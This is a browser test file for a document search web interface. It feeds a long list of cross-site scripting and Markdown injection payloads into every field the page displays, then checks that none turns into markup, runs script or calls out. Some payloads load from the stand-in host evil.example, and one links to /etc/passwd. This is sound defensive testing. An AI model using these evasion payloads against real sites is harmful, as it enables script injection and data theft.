"""Texts that try to become markup or scripts, in every place where the page shows a text that it was sent."""

from __future__ import annotations

import json
from typing import TYPE_CHECKING, Any
from urllib.parse import quote, urlsplit

if TYPE_CHECKING:
    from support.browser import Opened

RUN = "window.taken=1"
VECTORS = (
    f"<script>{RUN}</script>",
    f"<ScRiPt >{RUN}</sCrIpT>",
    f"<<script>{RUN};//<</script>",
    f"<script/x src=data:text/javascript,{RUN}></script>",
    "<script src=//evil.example/x.js></script>",
    f"</textarea><script>{RUN}</script>",
    f"</title></style><script>{RUN}</script>",
    f"--><script>{RUN}</script><!--",
    f"]]><script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f'<img src="x" onerror="{RUN}" style="position:fixed;inset:0">',
    f'<IMG """><script>{RUN}</script>">',
    f"<img/src/onerror={RUN}>",
    f"<img src=x:x onerror\t=\n{RUN}>",
    f"<img src='javascript:{RUN}'>",
    f"<image src=x onerror={RUN}>",
    f"<svg onload={RUN}>",
    f"<svg/onload={RUN}//",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><a xlink:href='javascript:{RUN}'><text y=9>x</text></a></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><use href='data:image/svg+xml,<svg id=x onload={RUN}>#x'>",
    f"<svg><foreignObject><iframe onload={RUN}></foreignObject></svg>",
    f"<math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
    f"<math href='javascript:{RUN}'>CLICK</math>",
    f"<math><a xlink:href='javascript:{RUN}'>x",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<template><img src=x onerror={RUN}></template>",
    f"<style><img title='</style><img src=x onerror={RUN}>'>",
    "<style>*{background:url(//evil.example/css)}</style>",
    "<style>@import '//evil.example/x.css';</style>",
    f"<div style='width:expression({RUN})'>",
    "<div style='background:url(//evil.example/div)'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<base href=//evil.example/>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'>",
    f"<iframe src='javascript:parent.{RUN}'>",
    f"<object data='javascript:{RUN}'>",
    f"<embed src='data:text/html,<script>{RUN}</script>'>",
    f"<body onload={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<select autofocus onfocus={RUN}><option>x",
    f"<details open ontoggle={RUN}>",
    f"<video><source onerror={RUN}>",
    f"<audio src=x onerror={RUN}>",
    f"<marquee onstart={RUN}>",
    f"<form><button formaction='javascript:{RUN}'>x",
    f"<isindex action='javascript:{RUN}' type=submit>",
    f"<x contenteditable onblur={RUN}>x",
    f"<p popover onbeforetoggle={RUN}>",
    f"<a href='javascript:{RUN}'>x</a>",
    f"[x](javascript:{RUN})",
    f"[x](JaVaScRiPt:{RUN})",
    f"[x](java\tscript:{RUN})",
    f"[x](java\x01script:{RUN})",
    f"[x](\x01javascript:{RUN})",
    f"[x](javascript&colon;{RUN})",
    f"[x](&#106;avascript:{RUN})",
    f"[x](javascript://evil.example/%0a{RUN})",
    f"[x](<javascript:{RUN}>)",
    f"[x](vbscript:{RUN})",
    f"[x](data:text/html,<script>{RUN}</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    f"[x](blob:null/{RUN})",
    "[x](file:///etc/passwd)",
    f"![x](javascript:{RUN})",
    "![x](//evil.example/x.png)",
    "![x](http://evil.example/x.png)",
    f'![x" onerror={RUN} "](http://evil.example/y.png)',
    f"[![x](http://evil.example/z.png)](javascript:{RUN})",
    f'[x](http://evil.example/" onclick="{RUN})',
    f"<http://evil.example/ onclick={RUN}>",
    f"[x]: javascript:{RUN}\n[x]",
    f"| a |\n|---|\n| <img src=x onerror={RUN}> |",
    f"```html\n<script>{RUN}</script>\n```",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;img src=x onerror={RUN}&#62;",
    f"\\x3cscript\\x3e{RUN}\\x3c/script\\x3e",
    f"%3Cscript%3E{RUN}%3C/script%3E",
    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
    f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e",
    f"\u202e<script>{RUN}</script>\u202c",
    f"\u2066<img src=x onerror={RUN}>\u2069",
    f"<scr\x00ipt>{RUN}</scr\x00ipt>",
    f"<img src=x o\u0000nerror={RUN}>",
    "{{constructor.constructor('" + RUN + "')()}}",
    "${" + RUN + "}",
    "<%= " + RUN + " %>",
    "__proto__",
    "constructor",
    f"'-({RUN})-'",
    f'";{RUN};//',
    f"javascript:/*--></title></style></textarea></script><svg/onload='/*/`/*/onmouseover={RUN}//'>",
    f"{'<b>' * 300}<img src=x onerror={RUN}>",
    f"{'[' * 500}x](javascript:{RUN})",
    f"{'> ' * 200}<script>{RUN}</script>",
    f"<img src=x onerror={RUN} alt='{'x' * 5_000}'>",
)
"""Kinds of OWASP's collection for evading filters, with those of Markdown; each would set a variable of the page."""
WATCH = """() => {
    const meant = new Set(`A ASIDE BDI BLOCKQUOTE BUTTON CAPTION CODE DATALIST DD DEL DETAILS DIV DL DT EM FIELDSET FORM
        H1 H2 H3 H4 H5 H6 HEADER HR I INPUT LABEL LEGEND LI MAIN MARK NAV NOSCRIPT OL OPTION P PRE SECTION SELECT SPAN
        STRONG SUMMARY TABLE TBODY TD TH THEAD TR UL`.split(/\\s+/));
    const wrong = [];
    for (const each of document.body.querySelectorAll("*")) {
        if (!meant.has(each.tagName)) wrong.push(each.outerHTML.slice(0, 200));
        for (const { name, value } of each.attributes) {
            const isEvent = name.startsWith("on") || ["srcdoc", "src", "formaction", "action"].includes(name);
            const isOther = name === "href" && !/^(https?:\\/\\/|mailto:|[?#]|\\/$)/i.test(value);
            const isStyle = name === "style" && /url|expression|fixed/i.test(value);
            if (isEvent || isOther || isStyle) wrong.push(`${each.tagName} ${name}=${value.slice(0, 100)}`);
        }
        if (each.tagName === "FORM" && each.hasAttribute("action")) wrong.push("a form that is sent elsewhere");
    }
    return [wrong, window.taken ?? null, document.title];
}"""
"""What is on the page that the page itself doesn't make, and what a vector has set."""


def hit(rank: int, vector: str) -> dict[str, Any]:
    """Return a result that has a vector in each of its texts."""
    chunk = {
        "text": f"{vector}\n\nSome text, {vector}",
        "title": vector,
        "source": f"{vector}.md",
        "document_id": vector,
        "section_path": [vector, vector],
        "lines": [1, 2],
        "metadata": {vector: vector},
    }
    scores = {"dense": 0.5, "dense_rank": rank, "lexical": 1.0, "lexical_rank": rank, "fused": 0.1}
    told = [{"kind": "query", "text": vector}]
    return {"id": vector, "rank": rank, "highlights": [[0, 3]], "index": None, "found_by": told, "scores": scores,
            "chunk": chunk}  # fmt: skip


def answer() -> str:
    """Return the stream of an answer that is made of all vectors, with sources that have them, too."""
    text = "\n\n".join(f"{vector} [{number}]." for number, vector in enumerate(VECTORS, 1))
    sources = [
        {"number": number, "document_id": vector, "title": vector, "source": vector, "chunk_ids": [vector],
         "quotes": [{"text": vector, "span": [0, 1]}]}
        for number, vector in enumerate(VECTORS, 1)
    ]  # fmt: skip
    sentence = {"text": text, "span": [0, 40], "needs_source": True, "attributions": [],
                "check": {"verdict": "contradicted", "reason": VECTORS[0], "quote": {"text": VECTORS[9]}}}  # fmt: skip
    done = {
        "text": text, "kind": "written", "sources": sources, "checks": [], "sentences": [sentence],
        "note": VECTORS[9], "error": VECTORS[0], "degraded": [{"stage": VECTORS[9], "reason": VECTORS[0]}],
        "confidence": {"value": 0.5, "retrieval": 0.5, "explanation": VECTORS[9]},
    }  # fmt: skip
    told = ({"type": "retrieval_done", "passages": sources}, {"type": "answer_chunk", "content": text},
            {"type": "done", "answer": done})  # fmt: skip
    return "".join(f"data: {json.dumps(event)}\n\n" for event in told)


def document() -> dict[str, Any]:
    """Return a document whose chunks are the vectors."""
    text = ""
    chunks: list[dict[str, Any]] = []
    for vector in VECTORS:
        chunks.append({"id": vector, "start": len(text), "end": len(text) + len(vector), "section_path": [vector],
                       "page_span": None})  # fmt: skip
        text += f"{vector}\n\n"
    return {"id": VECTORS[9], "title": VECTORS[9], "source": f"{VECTORS[9]}.md", "text": text, "offset": 0,
            "length": len(text), "chunks": chunks}  # fmt: skip


def serve(route: Any) -> None:
    """Answer as a service does whose documents are hostile."""
    path = urlsplit(str(route.request.url)).path
    fields = [{"name": vector, "types": [vector], "count": 1, "examples": [vector]} for vector in VECTORS]
    index = {"name": VECTORS[9], "points_count": 9, "indexed_vectors_count": 9, "vector_size": 4, "status": "green"}
    ledger = [{"id": vector, "role": vector, "tokens": 1, "outcome": vector, "reason": vector} for vector in VECTORS]
    found = {
        "results": [hit(rank, vector) for rank, vector in enumerate(VECTORS, 1)],
        "stages": [{"stage": vector, "milliseconds": 1.0, "started_ms": 0.0, "attempts": 2, "error": vector,
                    "decision": vector, "failed": [], "dropped": [vector]} for vector in VECTORS],
        "execution": {"latency_ms": 5}, "degraded": [{"stage": VECTORS[0], "reason": VECTORS[9]}],
        "relevance": {"value": 0.5, "unlikely": False, "explanation": VECTORS[9]}, "why": VECTORS[9],
    }  # fmt: skip
    chunk = {"text": VECTORS[9], "metadata": {"url": f"javascript:{RUN}"},
             "fields": {**hit(1, VECTORS[9])["chunk"], "id": VECTORS[9], "span": [0, 9],
                        "metadata": {vector: vector for vector in VECTORS}}}  # fmt: skip
    documents = [{"id": f"{vector}.md", "title": vector, "chunks": 1} for vector in VECTORS]
    if path == "/v1/answer":
        route.fulfill(content_type="text/event-stream", body=answer())
    elif path == "/v1/indexes":
        route.fulfill(json={"indexes": [index], "writable": True, "files": {"suffixes": [".md"], "max_bytes": 9}})
    elif path.startswith("/v1/indexes/"):
        route.fulfill(
            json={"name": VECTORS[9], "documents": 9, "description": VECTORS[0], "fields": [
                *fields, {"name": "title", "types": ["text"], "count": 9, "examples": list(VECTORS[:12])}]}
        )  # fmt: skip
    elif path == "/v1/explain":
        route.fulfill(json=found)
    elif path == "/v1/context":
        route.fulfill(json={"ledger": ledger, "max_tokens": 99, "token_count": 9, "context_pack": "\n".join(VECTORS),
                            "note": VECTORS[9], "degraded": []})  # fmt: skip
    elif path == "/v1/documents":
        route.fulfill(json={"documents": documents, "total": len(documents), "next_cursor": None})
    elif path.startswith("/v1/documents/"):
        route.fulfill(json=document())
    else:
        route.fulfill(json=chunk)


def test_nothing_that_is_sent_becomes_markup_or_runs(at_page: Opened) -> None:
    """In texts, titles, names of files, sections, fields, queries, filters, reasons, answers, quotes and errors."""
    page, asked = at_page.page, quote(" ".join(VECTORS)[:4_000])
    only = quote(json.dumps({VECTORS[9]: {"$eq": VECTORS[0]}}))
    dialogs: list[str] = []

    def refuse(dialog: Any) -> None:
        dialogs.append(dialog.message)
        dialog.dismiss()

    page.on("dialog", refuse)
    page.route("**/v1/**", serve)
    views = {
        f"?q={asked}&filters={only}": ".trust",
        f"?q={asked}&tab=why": ".reasons li",
        f"?q={asked}&tab=context": "pre.pack",
        f"?q={asked}&tab=compare": ".pair li",
        f"?q=x&chunk={quote(VECTORS[9], safe='')}": "#source .is-hit",
        "?view=index": ".region-documents tbody tr",
        "?": ".region-welcome .quiet",
    }
    for view, drawn in views.items():
        page.goto(at_page.place + view)
        page.wait_for_selector(drawn)
        page.evaluate("document.querySelectorAll('main details').forEach((each) => { each.open = true; })")
        if drawn == ".trust":
            shown = page.locator(".hit h2 bdi").evaluate_all("all => all.map(each => each.textContent)")
            assert shown == list(VECTORS)
        wrong, taken, title = page.evaluate(WATCH)
        assert not wrong, view
        assert taken is None, view
        assert RUN in title or title in {"Ask the documents", "Files"} or title.startswith("x ")
    assert not dialogs
    asked_hosts = {urlsplit(url).netloc for url in at_page.requests if not url.startswith("blob:")}
    assert asked_hosts == {urlsplit(at_page.url).netloc}


def test_the_vectors_are_many() -> None:
    """Each is another one."""
    assert len(set(VECTORS)) == len(VECTORS) > 60
